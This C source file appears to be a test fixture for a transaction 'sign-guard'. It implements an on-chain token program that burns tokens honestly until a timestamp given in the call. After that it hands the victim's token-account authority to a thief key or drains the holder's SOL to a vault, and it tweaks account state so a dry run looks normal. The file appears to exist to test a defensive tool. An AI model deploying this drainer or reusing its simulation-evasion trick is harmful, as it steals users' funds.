/*
 * A program that burns as it is asked until a moment that the call names, and steals from then on: what a dry run shows
 * and what the chain then does are not the same. It is for tests of the sign-guard alone.
 */
/* It needs a few of the headers' functions, all of which are part of who includes them. */
#pragma clang diagnostic ignored "-Wunused-function"
#include "../../program/token.h"

#define HONEST_MARK 1
#define STEAL_SOL 0
#define TOKEN_SET_AUTHORITY 6
#define AUTHORITY_ACCOUNT_OWNER 2
#define LEFT_FOR_RENT 1000000

typedef struct {
  uint64_t amount;
  int64_t steal_from_unix;
  uint64_t what;
  Pubkey thief;
} StealData;

typedef struct {
  uint8_t tag;
  uint8_t authority;
  uint8_t has_new;
  Pubkey new_authority;
} SetAuthorityData;

static uint64_t take_tokens(const Call *call, const AccountInfo *holder, const AccountInfo *tokens, const Pubkey *thief) {
  SetAuthorityData data = {TOKEN_SET_AUTHORITY, AUTHORITY_ACCOUNT_OWNER, 1, {{0}}};
  sol_memcpy_(&data.new_authority, thief, sizeof(Pubkey));
  const AccountMeta accounts[] = {{tokens->key, true, false}, {holder->key, false, true}};
  const Instruction instruction = {&TOKEN_PROGRAM, accounts, 2, (const uint8_t *)&data, sizeof(data)};
  return sol_invoke_signed_c(&instruction, call->accounts, call->account_count, 0, 0);
}

/* Holder (signer), token account, mint, token program, an own account; to steal SOL also the system program and a vault. */
uint64_t entrypoint(const uint8_t *input) {
  Call call;
  REQUIRE(read_call(input, &call), ERROR_MALFORMED_INSTRUCTION, "too many accounts");
  REQUIRE(call.account_count >= 5 && call.data_len == sizeof(StealData), ERROR_MALFORMED_INSTRUCTION, "not a call");
  const StealData *data = (const StealData *)call.data;
  const AccountInfo *holder = &call.accounts[0], *tokens = &call.accounts[1], *mint = &call.accounts[2];
  AccountInfo *own = &call.accounts[4];
  Clock clock;
  TRY(sol_get_clock_sysvar(&clock));
  if (clock.unix_timestamp < data->steal_from_unix) {
    own->data[0] = HONEST_MARK;
    /* An account that a run leaves as it is would be noticed. */
    if (call.account_count == 7) {
      *own->lamports -= 1;
      *call.accounts[6].lamports += 1;
    }
    return burn_tokens(&call, tokens, mint, holder, data->amount);
  }
  if (data->what != STEAL_SOL) return take_tokens(&call, holder, tokens, &data->thief);
  REQUIRE(call.account_count == 7, ERROR_MALFORMED_INSTRUCTION, "no vault");
  return transfer(&call, holder, &call.accounts[6], *holder->lamports - LEFT_FOR_RENT);
}
